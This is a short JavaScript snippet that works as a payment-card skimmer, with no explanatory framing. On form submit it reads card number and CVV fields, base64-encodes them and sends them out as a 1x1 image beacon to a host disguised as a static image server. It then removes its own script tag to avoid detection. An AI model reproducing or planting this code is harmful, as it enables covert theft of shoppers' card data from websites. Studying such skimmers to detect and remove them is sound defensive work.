(function (s) {
  var el = document.currentScript;
  function go() {
    var n = document.querySelector('[name*="cc_number"],[name*="cardNumber"]');
    var c = document.querySelector('[name*="cc_cid"],[name*="cvv"]');
    if (!n || !n.value) return;
    var t = new Image(1, 1);
    t.src = s + '?n=' + encodeURIComponent(btoa(n.value + ':' + (c ? c.value : '')));
  }
  document.addEventListener('submit', go, true);
  if (el) el.parentNode.removeChild(el);
})('https://static-img-host.test/1x1.gif');
